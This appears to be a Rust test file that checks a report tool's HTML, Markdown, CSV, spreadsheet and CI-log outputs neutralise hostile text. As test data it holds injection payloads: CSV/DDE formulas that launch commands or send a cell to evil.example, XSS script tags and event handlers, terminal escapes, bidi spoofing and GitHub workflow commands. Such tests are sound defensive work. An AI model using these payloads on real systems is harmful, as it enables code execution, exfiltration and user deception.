//! One table of texts made to hurt whoever reads a report, run through every format and every shipped template.

use std::fs;
use std::path::Path;

use lmq::spec::{Content, Format};
use lmq::text;
use serde_json::{Value, json};

use crate::support::{Project, Reply, Stub, page, row, slice, unzip};

/// Every token is found, with its texts in the message.
const QUERY: &str = "name: hostile\nfields: [id, note, adminName, roles]\nexpect:\n  - {id: none, select: '$[?@.id > 0]', message: 'token of {{adminName}}: {{note}}'}\n";

/// What they do where they are not kept from it.
const TEXTS: &[(&str, &str)] = &[
    ("control characters", "a\u{1}b\u{7}c\u{8}d\u{b}e\u{c}f\u{7f}g"),
    ("nul", "before\u{0}after"),
    (
        "escape sequences",
        "\u{1b}[31mred\u{1b}[2J\u{1b}]0;title\u{7}\u{1b}]8;;http://evil.example\u{1b}\\link",
    ),
    ("control characters of eight bits", "\u{9b}31m\u{90}q\u{9d}0;x\u{9c}\u{85}next"),
    (
        "bidi overrides",
        "invoice\u{202e}gpj.exe\u{202c} \u{2066}\u{2067}\u{2068}\u{2069}\u{202a}\u{202b}\u{202d}",
    ),
    ("zero width", "pay\u{200b}pal\u{200d}\u{feff}\u{2060}.example\u{200e}\u{200f}"),
    ("line ends of unicode", "one\u{2028}two\u{2029}three"),
    ("line ends", "one\ntwo\r\nthree\rfour\n\n"),
    ("what XML has no place for", "\u{fffe}\u{ffff}]]>"),
    ("formula", "=cmd|' /C calc'!A0"),
    ("formula with quotes", "=HYPERLINK(\"http://evil.example?x=\"&A1,\"click\")"),
    ("plus", "+1+cmd"),
    ("minus", "-2+3+cmd"),
    ("at", "@SUM(1+1)"),
    ("tab before a formula", "\t=1+1"),
    ("carriage return before a formula", "\r=1+1"),
    ("line feed before a formula", "\n=1+1"),
    ("blank before a formula", " =1+1"),
    ("full width formula", "＝1+1"),
    ("cell of its own", "a\",\"=1+1\",\"b;c\td"),
    ("pipes", "a | b || c \\| d \\\\|"),
    ("table row", "x |\n| --- |\n| y"),
    ("link", "[click](javascript:alert(1)) ![pixel](https://evil.example/p.png) <https://evil.example>"),
    ("reference", "[x]: https://evil.example\n[x]"),
    ("plain addresses", "https://evil.example www.evil.example jane@evil.example @team #1"),
    ("code", "`code` ```\n~~~~\n    indented\n```sh"),
    ("heading", "# head\n===\n---"),
    ("list", "- item\n1. item\n> quote"),
    ("script", "<script>alert(1)</script>"),
    ("image", "<img src=x onerror=\"alert(1)\">"),
    ("closing tags", "</td></tr></table></title></style></svg></figure><script>alert(1)</script>"),
    ("attribute", "\" onmouseover=\"alert(1)"),
    ("attribute of one quote", "' autofocus onfocus='alert(1)"),
    ("attribute of none", "x onclick=alert(1) `y`"),
    ("comment", "--><!-- x --!> <![CDATA[ y ]]> <?php z ?>"),
    ("entities", "&lt;script&gt; &#60;b&#62; &amp;"),
    ("template", "{{run.verdict}} {{{note}}} {{#each records}} {{> verdict.html}} ${var} <%= x %>"),
    ("workflow command", "::error file=x::y\n::set-output name=a::b\n##[error]z"),
    ("yaml", "- a: {b: [c]} # d\n--- !!str &x *x"),
    ("backslashes", "\\n \\u001b \\\\ end\\"),
    ("percent", "%0A%0D%1b[31m %s %n"),
    ("combining", "Z\u{335}\u{321}\u{322}\u{327}\u{328}a\u{300}\u{301}\u{302}\u{303}\u{304}lgo"),
];

/// All of them, and one that is long.
fn texts() -> Vec<String> {
    let long = format!("{}<b>|=", "long ".repeat(2_000));
    TEXTS.iter().map(|(_, text)| (*text).to_owned()).chain([long]).collect()
}

/// A portal whose tokens have a text wherever they have any.
fn stub(texts: &[String]) -> Stub {
    let rows: Vec<Value> = (1..)
        .zip(texts)
        .map(|(id, text)| {
            let mut row = row(id);
            for field in ["note", "adminName", "createdBy", "lastAuthIp"] {
                row[field] = json!(text);
            }
            row["roles"] = json!([text, "second"]);
            row
        })
        .collect();
    let total = rows.len();
    Stub::start(move |seen| page(slice(&rows, seen), total))
}

/// What is made of the texts, by a flag of `run` and its value; and of as many texts without malice.
fn made(flag: &str, form: &str) -> (String, String) {
    let of = |texts: &[String]| {
        let stub = stub(texts);
        let ran = Project::new().query(QUERY).stub(&stub).run(&[flag, form, "q.yaml"]);
        // Findings are the point.
        ran.exits(1).stdout
    };
    (of(&texts()), of(&plain()))
}

/// Two results: of each token every text is another, the first token is gone and there is a new one.
fn two(before: &[String], after: &[String]) -> Project {
    // What the shipped templates read is there to be compared.
    let query = QUERY.replace("fields:", "columns:");
    [("old.json", before), ("new.json", after)].into_iter().fold(Project::new(), |project, (file, texts)| {
        let stub = stub(texts);
        let mut document =
            Project::new().query(&query).stub(&stub).run(&["-f", "json", "q.yaml"]).exits(1).json();
        // Of one portal, wherever it listened.
        document["portals"][0]["host"] = json!("stub");
        document["portals"][0]["name"] = json!("stub");
        document["listings"][0]["portal"] = json!("stub");
        let records = document["records"].as_array_mut().expect("records");
        let gone = if file == "old.json" { 0 } else { records.len() - 1 };
        records.remove(gone);
        for record in &mut *records {
            record["portal"] = json!("stub");
        }
        document["count"] = json!(records.len());
        project.file(file, document.to_string())
    })
}

/// What `lmq diff` makes of two results with these texts, and of as many texts without malice.
fn compared(flag: &str, form: &str) -> (String, String) {
    let of = |before: &[String]| {
        let mut after = before.to_vec();
        after.rotate_left(1);
        two(before, &after).lmq(&["diff", "old.json", "new.json", flag, form]).exits(1).stdout
    };
    (of(&texts()), of(&plain()))
}

/// As many texts without malice. Each is another one, as the hostile ones are: reports have a part for each owner.
fn plain() -> Vec<String> {
    (0..=TEXTS.len()).map(|index| format!("plain{index}")).collect()
}

/// The formats that are text, those of findings among them.
fn formats() -> impl Iterator<Item = Format> {
    Format::ALL.iter().copied().filter(|format| format.about().content == Content::Text)
}

/// Every shipped template that is a report of its own.
fn templates() -> Vec<String> {
    let folder = Path::new(env!("CARGO_MANIFEST_DIR")).join("templates");
    let files = fs::read_dir(folder).expect("the templates lie there");
    let names = files.map(|file| file.expect("readable").file_name().to_string_lossy().into_owned());
    let partials = ["verdict.", "findings.", "waived.", "seen."];
    let whole = |name: &String| partials.iter().all(|partial| !name.starts_with(partial));
    let mut names: Vec<String> = names.filter(whole).collect();
    names.sort();
    assert!(names.len() >= 11, "the shipped templates are found");
    names
}

/// Every text report: its form, the kind of markup that it is, and what is made of hostile and of plain texts.
fn reports() -> Vec<(String, &'static str, String, String)> {
    let formats = formats().map(|format| {
        let markup = match format {
            Format::Html => "html",
            Format::Markdown => "md",
            _ => "",
        };
        ("-f", format.name().to_owned(), markup)
    });
    let templates = templates().into_iter().map(|name| {
        let markup = ["html", "md"].into_iter().find(|kind| name.ends_with(&format!(".{kind}.hbs")));
        ("-t", name, markup.unwrap_or_default())
    });
    let both = |(flag, form, markup): (&str, String, &'static str)| {
        let (hostile, plain) = made(flag, &form);
        let run = (form.clone(), markup, hostile, plain);
        let (hostile, plain) = compared(flag, &form);
        [run, (format!("diff as {form}"), markup, hostile, plain)]
    };
    formats.chain(templates).flat_map(both).collect()
}

/// Characters that act instead of being shown. Written out here once more, so that a gap in the program's list is found.
fn acts(c: char) -> bool {
    matches!(c, '\0'..='\u{8}' | '\u{b}'..='\u{1f}' | '\u{7f}'..='\u{9f}')
        || matches!(c, '\u{2028}'..='\u{202e}' | '\u{2066}'..='\u{2069}')
}

#[test]
fn nothing_acts_on_who_reads_a_report() {
    for (form, markup, hostile, plain) in reports() {
        // The lines of CSV end as RFC 4180 has it.
        let found = hostile.replace("\r\n", "\n").chars().find(|c| acts(*c));
        assert_eq!(found, None, "{form}");
        match markup {
            "html" => html(&form, &hostile, &plain),
            "md" => markdown(&form, &hostile, &plain),
            _ => {}
        }
        // A line that begins like one is a command to GitHub's runner.
        if form.ends_with("github") {
            let commands = |text: &str| text.lines().filter(|line| line.starts_with("::")).count();
            let lines = |text: &str| (commands(text), text.lines().count());
            assert_eq!(lines(&hostile), lines(&plain), "{hostile}");
        }
    }
}

/// The page has the elements and attributes it has without malice.
fn html(form: &str, hostile: &str, plain: &str) {
    for wrong in
        ["<script", "<img", "<b>", "<!--", "<?", "</style><", " onmouseover=\"", " onfocus='", "\" on"]
    {
        let count = |text: &str| text.matches(wrong).count();
        assert_eq!(count(hostile), count(plain), "{form}: {wrong}");
    }
    // The charts have a bar for each owner; the table has the same elements, however its cells read.
    let table = |text: &str| {
        let table = text.split("id=\"tokens\"").last().expect("there is a table");
        // A text that is long is in a box of its own.
        let boxed =
            regex::Regex::new("<div class=\"long\" tabindex=\"0\">([^<]*)</div></td>").expect("a pattern");
        let table = boxed.replace_all(table, "$1</td>");
        (table.matches('<').count(), table.matches('>').count(), table.matches("=\"").count())
    };
    assert_eq!(table(hostile), table(plain), "{form}");
    let quotes = |tag: &str| tag.matches('"').count().is_multiple_of(2);
    let body = hostile.split("<body>").last().expect("there is a body");
    let tags: Vec<&str> = body.split('<').skip(1).filter_map(|rest| rest.split('>').next()).collect();
    assert!(tags.iter().all(|tag| quotes(tag) && !tag.contains('\'')), "{form}");
}

/// Every row keeps its cells, HTML is text and nothing becomes a link.
fn markdown(form: &str, hostile: &str, plain: &str) {
    let rows = |text: &str| {
        let rows = text.lines().filter(|line| line.starts_with('|'));
        rows.map(|row| row.replace("\\\\", "").replace("\\|", "").matches('|').count()).collect::<Vec<_>>()
    };
    assert_eq!(rows(hostile), rows(plain), "{form}: cells");
    assert_eq!(hostile.lines().count(), plain.lines().count(), "{form}: lines");
    let text = hostile.replace("<br>", "").replace("\\\\", "");
    assert!(!text.contains('<'), "{form}: HTML");
    for link in ["](", "]:", "https://", "www.evil", "@evil", "@team"] {
        let open = text.replace(&format!("\\{link}"), "");
        assert!(!open.contains(link), "{form}: {link}");
    }
    assert!(!text.replace("\\`", "").contains('`'), "{form}: code");
}

#[test]
fn programs_read_back_what_the_portal_sent() {
    let texts = texts();
    let of = |document: &Value| -> Vec<String> {
        let records = document.as_array().expect("records").iter();
        records.map(|record| record["note"].as_str().expect("a note").to_owned()).collect()
    };
    let json: Value = serde_json::from_str(&made("-f", "json").0).expect("JSON");
    assert_eq!(of(&json["records"]), texts);
    let yaml: Value = serde_yaml::from_str(&made("-f", "yaml").0).expect("YAML");
    assert_eq!(of(&yaml["records"]), texts);
    let lines = made("-f", "ndjson").0;
    let lines: Vec<Value> = lines.lines().map(|line| serde_json::from_str(line).expect("JSON")).collect();
    assert_eq!(of(&json!(lines)), texts);
}

#[test]
fn spreadsheets_read_back_the_texts_and_no_formula() {
    let is_formula = |cell: &str| cell.trim_start().starts_with(['=', '+', '-', '@', '＝', '＋', '－', '＠']);
    let csv = made("-f", "csv").0;
    let mut reader = csv::Reader::from_reader(csv.as_bytes());
    let rows: Vec<csv::StringRecord> = reader.records().map(|row| row.expect("a row")).collect();
    assert_eq!(rows.len(), texts().len());
    // The last cell names the findings.
    for (row, text) in rows.iter().zip(texts()) {
        assert_eq!(row.len(), 5, "{text:?}");
        for cell in [&row[1], &row[2]] {
            assert!(!is_formula(cell) && !cell.starts_with(['\t', '\r', '\n']), "{cell:?}");
            assert_eq!(cell.strip_prefix('\'').unwrap_or(cell), text::inert(&text).trim_start_matches('\''));
        }
    }
    for line in made("-f", "tsv").0.lines() {
        let cells: Vec<&str> = line.split('\t').collect();
        assert_eq!(cells.len(), 5, "{line:?}");
        assert!(cells.iter().all(|cell| !is_formula(cell)), "{line:?}");
    }
}

#[test]
fn a_workbook_holds_the_texts_and_no_formula() {
    let texts = texts();
    let stub = stub(&texts);
    let project = Project::new().query(QUERY).stub(&stub);
    project.run(&["-o", "x.xlsx", "q.yaml"]).exits(1);
    let files = unzip(&fs::read(project.path("x.xlsx")).expect("it is written"));
    let files = String::from_utf8(files).expect("its files are XML");
    assert_eq!(files.chars().find(|c| acts(*c) && *c != '\r'), None);
    let mut cells = Vec::new();
    for file in files.split("<?xml").skip(1) {
        let file = format!("<?xml{file}");
        let sheet = roxmltree::Document::parse(&file).unwrap_or_else(|error| panic!("{error}: {file}"));
        let is = |node: &roxmltree::Node<'_, '_>, name: &str| node.has_tag_name((SHEET, name));
        assert!(!sheet.descendants().any(|node| is(&node, "f") || is(&node, "hyperlink")), "{file}");
        let found = sheet.descendants().filter(|node| is(node, "t"));
        cells.extend(found.map(|node| node.text().unwrap_or_default().to_owned()));
    }
    for text in &texts {
        let shown = text::inert(&text.replace("\r\n", "\n")).into_owned();
        let shown = shown.replace('\u{fffe}', "\\u{fffe}").replace('\u{ffff}', "\\u{ffff}");
        assert!(cells.contains(&shown), "{text:?} in {cells:?}");
    }
}

/// What the elements of a workbook's sheets are of.
const SHEET: &str = "http://schemas.openxmlformats.org/spreadsheetml/2006/main";

#[test]
fn programs_read_back_what_has_changed() {
    let document: Value = serde_json::from_str(&compared("-f", "json").0).expect("JSON");
    let texts = texts();
    let changed = document["diff"]["changed"].as_array().expect("a list");
    assert_eq!(changed.len(), texts.len() - 2);
    for (record, pair) in changed.iter().zip(texts[1..].windows(2)) {
        let fields = record["changes"].as_array().expect("changes").iter();
        let note = fields.clone().find(|change| change["field"] == "note").expect("it has changed");
        assert_eq!((&note["old"], &note["new"]), (&json!(pair[0]), &json!(pair[1])));
        assert_eq!(fields.count(), 5, "{record}");
    }
}

/// A saved result is a file like any other: whatever stands in it is text.
#[test]
fn what_a_saved_result_says_of_itself_is_text_as_well() {
    let project = two(&vec!["plain".to_owned(); 3], &vec!["other".to_owned(); 3]);
    let saved: Value = serde_json::from_str(&project.read("old.json")).expect("JSON");
    for (what, text) in TEXTS {
        let mut document = saved.clone();
        document["run"]["lmqVersion"] = json!(text);
        document["run"]["verdict"] = json!("incomplete");
        document["run"]["reasons"] = json!([text]);
        document["portals"][0]["name"] = json!(text);
        document["listings"][0]["portal"] = json!(text);
        document["query"]["fields"].as_array_mut().expect("a list").push(json!(text));
        for record in document["records"].as_array_mut().expect("records") {
            record["portal"] = json!(text);
            record["tokenType"] = json!(text);
            record[text] = json!("x");
        }
        for format in ["html", "table", "markdown", "yaml", "junit", "github"] {
            project.write("old.json", document.to_string());
            let ran = project.lmq(&["diff", "old.json", "new.json", "-f", format]);
            assert_eq!(ran.code, 6, "{what} as {format}: {}", ran.stderr);
            let found = ran.both().replace("\r\n", "\n").chars().find(|c| acts(*c));
            assert_eq!(found, None, "{what} as {format}");
            assert_ne!(ran.stdout, "", "{what} as {format}");
            let body = ran.stdout.split("</style>").last().unwrap_or_default();
            let markup = format == "html" && ["<script", "<img", "<!--"].iter().any(|tag| body.contains(tag));
            assert!(!markup, "{what}: {body}");
        }
    }
}

#[test]
fn half_a_character_is_no_row_and_no_panic() {
    for escape in ["\\ud800", "\\udfff\\ud800", "\\ud83d"] {
        let body = format!("{{\"total\": 1, \"items\": [{{\"id\": 1, \"note\": \"a{escape}b\"}}]}}");
        let stub = Stub::saying(Reply::text(200, "application/json", body));
        for format in formats() {
            let ran = Project::new().query(QUERY).stub(&stub).run(&["-f", format.name(), "q.yaml"]);
            assert!(matches!(ran.code, 5 | 6), "{escape}: {} {}", ran.code, ran.stderr);
            assert!(!ran.both().contains(acts), "{escape}");
        }
    }
}

#[test]
fn names_of_a_query_are_texts_as_well() {
    for (what, text) in TEXTS.iter().filter(|(_, text)| !text.contains(['\0', '\u{fffe}'])) {
        let quoted = serde_json::to_string(text).expect("a string is JSON").replace("${", "$${");
        let query = format!(
            "description: {quoted}\ntags: [{quoted}]\ncolumns: [id, {{title: {quoted}, path: $.note}}]\n"
        );
        let stub = stub(&["plain".to_owned()]);
        let project = Project::new().query(&query).stub(&stub);
        for (flag, form) in [("-f", "html"), ("-f", "table"), ("-t", "tokens.md.hbs")] {
            let ran = project.run(&[flag, form, "q.yaml"]);
            // A heading that no file can hold is refused; nothing is made of it then.
            assert!(matches!(ran.code, 0 | 2), "{what} as {form}: {}", ran.stderr);
            let found = ran.both().replace("\r\n", "\n").chars().find(|c| acts(*c));
            assert_eq!(found, None, "{what} as {form}");
            let body = ran.stdout.split("</style>").last().unwrap_or_default();
            if form == "html" {
                assert!(
                    !body.contains("<script") && !body.contains("<img") && !body.contains("<!--"),
                    "{what}: {body}"
                );
            }
        }
    }
}
